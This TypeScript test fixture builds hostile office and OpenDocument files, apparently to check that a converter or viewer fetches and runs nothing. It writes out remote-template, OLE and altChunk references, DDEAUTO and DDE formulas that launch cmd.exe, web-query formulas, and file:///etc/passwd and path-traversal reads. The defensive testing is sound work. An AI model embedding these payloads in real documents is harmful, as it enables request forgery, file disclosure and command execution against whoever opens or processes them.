// Files that ask whoever opens them to fetch something. Nothing must be fetched.
import { ofKind, PLAIN_WORDS, type HostileDocument, type HostileLine } from './hostile-document.ts'
import {
  cell,
  open,
  openParagraph,
  paragraph,
  relationships,
  row,
  shape,
  sheet,
  slide,
  word,
  wordXml,
  WORD_END,
  WORD_START,
} from './packages.ts'

const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>${paragraph()}`

const rel = (part: string, type: string, target: string) => ({
  [part]: relationships([{ type, target, isExternal: true }]),
})
const RELS = 'word/_rels/document.xml.rels'

export const references = (address: string): HostileDocument[] =>
  ofKind('external reference', [...wordFiles(address), ...otherFiles(address)])

const wordFiles = (address: string): HostileLine[] => [
  [
    'linked-picture.docx',
    'shows a picture of another server',
    () =>
      word(
        `<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>${paragraph()}`,
        rel(RELS, 'image', `${address}/a.png`),
      ),
    PLAIN_WORDS,
  ],
  [
    'template.docx',
    'has a template of another server',
    () =>
      word(paragraph(), {
        'word/settings.xml': wordXml('settings', '<w:attachedTemplate r:id="rId1"/>'),
        ...rel('word/_rels/settings.xml.rels', 'attachedTemplate', `${address}/a.dotm`),
        [RELS]: relationships([{ type: 'settings', target: 'settings.xml' }]),
      }),
    PLAIN_WORDS,
  ],
  [
    'object.docx',
    'has an object of another server',
    () =>
      word(
        `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="htmlfile" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>${paragraph()}`,
        rel(RELS, 'oleObject', `mhtml:${address}/a.html!x-usc:${address}/a.html`),
      ),
    PLAIN_WORDS,
  ],
  [
    'chunk.docx',
    'takes a part of its text from another server',
    () =>
      word(`<w:altChunk r:id="rId1"/>${paragraph()}`, rel(RELS, 'aFChunk', `${address}/a.html`)),
    PLAIN_WORDS,
  ],
  [
    'links.docx',
    'has links to files, programs and other servers',
    () =>
      word(
        `<w:p>${[1, 2, 3, 4].map((id) => `<w:hyperlink r:id="rId${id}"><w:r><w:t>${PLAIN_WORDS}</w:t></w:r></w:hyperlink>`).join('')}</w:p>`,
        {
          [RELS]: relationships(
            [
              'file:///etc/passwd',
              'javascript:alert(1)',
              `\\\\127.0.0.1\\share\\a`,
              `${address}/link`,
            ].map((target) => ({ type: 'hyperlink', target, isExternal: true })),
          ),
        },
      ),
    PLAIN_WORDS,
  ],
  [
    'fields.docx',
    'includes a picture and a text by fields',
    () =>
      word(
        field(`INCLUDEPICTURE &quot;${address}/a.png&quot; \\d`) +
          field(`INCLUDETEXT &quot;file:///etc/passwd&quot;`),
      ),
    PLAIN_WORDS,
  ],
  [
    'dde.docx',
    'starts a program by a field',
    () => word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;')),
    PLAIN_WORDS,
  ],
  [
    'style-sheet.docx',
    'has a style sheet of another server',
    () =>
      word('', {
        'word/document.xml': (WORD_START + paragraph() + WORD_END).replace(
          '?>\n',
          `?>\n<?xml-stylesheet type="text/xsl" href="${address}/a.xsl"?>\n`,
        ),
      }),
    PLAIN_WORDS,
  ],
]

const openPicture = (target: string) =>
  `<text:p><draw:frame><draw:image xlink:href="${target}" xlink:actuate="onLoad"/></draw:frame></text:p>${openParagraph()}`

const otherFiles = (address: string): HostileLine[] => [
  [
    'workbook.xlsx',
    'calculates with a workbook of another server',
    () =>
      sheet(row(1, `<c r="B1"><f>[1]Sheet1!A1</f><v>7</v></c>${cell('A1')}`), {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ...rel(
          'xl/externalLinks/_rels/externalLink1.xml.rels',
          'externalLinkPath',
          `${address}/a.xlsx`,
        ),
      }),
    PLAIN_WORDS,
  ],
  [
    'web-query.xlsx',
    'has a query and formulas that ask another server',
    () =>
      sheet(
        row(
          1,
          `<c r="B1"><f>WEBSERVICE("${address}/a")</f></c><c r="C1"><f>HYPERLINK("${address}/b","a")</f></c>${cell('A1')}`,
        ),
        {
          'xl/connections.xml': `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4" refreshOnLoad="1"><webPr url="${address}/query"/></connection></connections>`,
        },
      ),
    PLAIN_WORDS,
  ],
  [
    'media.pptx',
    'plays a film of another server',
    () =>
      slide(
        `<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="rId1"/></p:nvPr></p:nvPicPr></p:pic>${shape()}`,
        rel('ppt/slides/_rels/slide1.xml.rels', 'video', `${address}/a.mp4`),
      ),
    PLAIN_WORDS,
  ],
  [
    'layout.pptx',
    'has a layout of another server',
    () =>
      slide(shape(), rel('ppt/slides/_rels/slide1.xml.rels', 'slideLayout', `${address}/a.xml`)),
    PLAIN_WORDS,
  ],
  [
    'picture.odt',
    'shows a picture of another server',
    () => open('text', openPicture(`${address}/a.png`)),
    PLAIN_WORDS,
  ],
  [
    'file.odt',
    'shows a file of the server',
    () => open('text', openPicture('file:///etc/passwd') + openPicture('../../../../etc/passwd')),
    PLAIN_WORDS,
  ],
  [
    'table.ods',
    'takes a table from another server',
    () =>
      open(
        'spreadsheet',
        `<table:table table:name="A"><table:table-source xlink:href="${address}/a.ods" table:refresh-delay="PT1S"/><table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)">${openParagraph()}</table:table-cell></table:table-row></table:table>`,
      ),
    PLAIN_WORDS,
  ],
]
